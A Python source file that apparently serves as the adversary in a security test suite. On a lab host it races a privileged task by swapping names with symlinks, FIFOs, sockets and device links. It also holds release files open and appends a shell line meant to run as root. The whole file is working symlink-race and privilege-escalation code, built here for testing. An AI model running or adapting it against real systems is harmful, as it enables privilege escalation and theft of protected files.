"""The attacker: a program of the application's user that changes names under a task's hands.

It runs on a lab host until its standard input ends. In every folder that its user may write to, it exchanges what is
there with links out of the folder, FIFOs, sockets, look-alikes of devices, empty folders and hard links: by one system
call each (renameat2, RENAME_EXCHANGE), by descriptors, so that a folder whose own name is flipped is the same to it. It
also keeps files of releases open that it could open for writing, writes into them later, and reads whatever it can.

Usage: python3 flipper.py '{"places": […], "looks": […], "targets": […], "kinds": […], "paces": […], "spared": […],
           "seed": N}'
  places   folders below which it works, where they can be written to
  looks    folders below which it reads
  targets  where its links lead: folders and files that it must not come to
  kinds    what names are exchanged with, of KINDS; all of them when empty
  paces    how, of PACES; all of them but "still" when empty
  spared   names that it leaves alone
"""

from __future__ import annotations

import contextlib
import json
import os
import random
import sys
import time
from collections import Counter
from dataclasses import dataclass
from typing import Any

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))  # noqa: PTH100, PTH120
from marks import files, is_marked  # type: ignore[import-not-found,unused-ignore]
from reach import Reach, bind, entries, exchange, is_over, remove  # type: ignore[import-not-found,unused-ignore]

PREFIX = ".flip-"
MAX_FOLDERS, MAX_VICTIMS, MAX_HELD = 60, 120, 200
# What a root that runs it would leave; the user itself cannot.
LINE = b"\n: >/etc/owned-by-the-attacker 2>/dev/null || :\n"
KINDS = ("link", "link", "link", "fifo", "socket", "folder", "hard link", "device", "dangling", "loop")
# Without a pause, with short ones, left wrong for a while, left alone for a while; "still": wrong until the end.
PACES = ("fast", "fast", "short", "short", "parked", "calm")


@dataclass
class Victim:
    """A name that is flipped.

    Args:
        folder: descriptor of where it is.
        name, decoy: what is exchanged.
        kind: of the decoy.
        away: whether the decoy has its name now.
    """

    folder: int
    name: str
    decoy: str
    kind: str
    away: bool = False

    def flip(self) -> bool:
        """Exchange it with its decoy."""
        done = bool(exchange(self.folder, self.name, self.decoy))
        if done:
            self.away = not self.away
        return done


class Attacker:
    """Works until it is told to stop.

    Args:
        wanted: see the usage.
    """

    def __init__(self, wanted: dict[str, Any]) -> None:
        self.reach = Reach(wanted["places"], MAX_FOLDERS)
        self.looks: list[str] = wanted["looks"]
        self.targets: list[str] = wanted["targets"]
        self.kinds: tuple[str, ...] = tuple(wanted["kinds"]) or KINDS
        self.paces: tuple[str, ...] = tuple(wanted["paces"]) or PACES
        self.spared = set(wanted["spared"])
        self.random = random.Random(wanted["seed"])  # noqa: S311 - to be had again
        self.victims: list[Victim] = []
        self.held: dict[int, int] = {}
        self.read: set[tuple[int, int]] = set()
        self.counts: Counter[str] = Counter()
        self.stolen: set[str] = set()
        self.owned: set[str] = set()

    def run(self) -> None:
        """Attack in phases, each at a pace of its own."""
        told = False
        while not is_over():
            self._put_back()
            self._scan()
            self._spread()
            self._write()
            pace = self.random.choice(self.paces)
            self.counts[f"phases {pace}"] += 1
            if pace == "still":
                for victim in self.victims:
                    self._flip(victim)
            if not told:
                print("ready", flush=True)
                told = True
            getattr(self, f"_{pace}")(time.monotonic() + self.random.uniform(0.05, 0.3))
        self._put_back()

    def report(self) -> dict[str, Any]:
        """What it did, and what it got."""
        return {
            "flips": self.counts["flips"],
            "counts": dict(self.counts),
            "attacked": sorted(self.reach.seen),
            "stolen": sorted(self.stolen),
            "owned": sorted(self.owned),
        }

    # Phases.

    def _fast(self, until: float) -> None:
        while time.monotonic() < until:
            for victim in self.victims:
                self._flip(victim)

    def _short(self, until: float) -> None:
        while time.monotonic() < until:
            for victim in self.victims:
                if self.random.random() < 0.6:
                    self._flip(victim)
            time.sleep(self.random.choice((0.0001, 0.0005, 0.001, 0.003)))

    def _parked(self, until: float) -> None:
        for victim in self.victims:
            if self.random.random() < 0.5:
                self._flip(victim)
        time.sleep(max(0.0, until - time.monotonic()))

    def _still(self, _: float) -> None:
        while not is_over():
            time.sleep(0.02)

    def _calm(self, until: float) -> None:
        # Tasks come further when they see what they expect for a while.
        time.sleep(max(0.0, until - time.monotonic()))

    def _flip(self, victim: Victim) -> None:
        if victim.flip():
            self.counts["flips"] += 1
            self.counts[victim.kind] += 1
        else:
            self.counts["refused"] += 1

    # What there is to attack.

    def _scan(self) -> None:
        self.reach.scan()
        self.counts["scans"] += 1
        for look in self.looks:
            for file in files(look):
                self._look_at(file)

    def _look_at(self, file: os.DirEntry[str]) -> None:
        """Read what can be read; keep what can be written to, and is not in a folder of ours."""
        try:
            seen = file.stat(follow_symlinks=False)
        except OSError:
            return
        key = (seen.st_ino, seen.st_ctime_ns)
        if key in self.read:
            return
        self.read.add(key)
        if is_marked(file.path):
            self.stolen.add(file.path)
        if "/releases/" in file.path and len(self.held) < MAX_HELD:
            with contextlib.suppress(OSError):
                self.held.setdefault(seen.st_ino, os.open(file.path, os.O_WRONLY | os.O_NONBLOCK | os.O_NOFOLLOW))
                self.counts["held"] += 1

    def _write(self) -> None:
        """Write into what has become root's while we had it open."""
        for opened in self.held.values():
            with contextlib.suppress(OSError):
                if os.fstat(opened).st_uid == os.getuid():
                    continue
                os.lseek(opened, 0, os.SEEK_END)
                os.write(opened, LINE)
                self.counts["written"] += 1
                path = os.readlink(f"/proc/self/fd/{opened}")  # noqa: PTH115
                self.owned.add(path.removesuffix(" (deleted)"))

    # Decoys.

    def _spread(self) -> None:
        self.victims = []
        for folder in self.reach.folders:
            for name, is_folder in entries(folder):
                spared = name.startswith(PREFIX) or name in self.spared
                if not spared and len(self.victims) < MAX_VICTIMS:
                    self._prepare(folder, name, is_folder)

    def _prepare(self, folder: int, name: str, is_folder: bool) -> None:
        kind = self.random.choice(self.kinds)
        decoy = f"{PREFIX}{len(self.victims)}"
        try:
            self._make(folder, decoy, kind, name, is_folder)
        except OSError:
            self.counts["not made"] += 1
            return
        self.victims.append(Victim(folder, name, decoy, kind))

    def _make(self, folder: int, decoy: str, kind: str, name: str, is_folder: bool) -> None:
        if kind == "link":
            target = self.random.choice(self.targets)
            # A folder leads to a folder, a file to the file of its name there.
            os.symlink(target if is_folder else f"{target}/{name}", decoy, dir_fd=folder)
        elif kind == "fifo":
            os.mkfifo(decoy, dir_fd=folder)
        elif kind == "socket":
            bind(folder, decoy)
        elif kind == "folder":
            os.mkdir(decoy, dir_fd=folder)
        elif kind == "hard link" and not is_folder:
            os.link(name, decoy, src_dir_fd=folder, dst_dir_fd=folder, follow_symlinks=False)
        elif kind == "device":
            os.symlink(self.random.choice(("/dev/zero", "/dev/full", "/dev/stdin")), decoy, dir_fd=folder)
        elif kind == "loop":
            os.symlink(decoy, decoy, dir_fd=folder)
        else:
            os.symlink("/nonexistent/there", decoy, dir_fd=folder)

    def _put_back(self) -> None:
        """Everything has its own name again, as far as we may still change it."""
        for victim in self.victims:
            if victim.away:
                victim.flip()
            if not victim.away:
                remove(victim.folder, victim.decoy)
        self.victims = []


def main() -> None:
    """Attack until standard input ends."""
    attacker = Attacker(json.loads(sys.argv[1]))
    attacker.run()
    print(json.dumps(attacker.report()), flush=True)


if __name__ == "__main__":
    main()
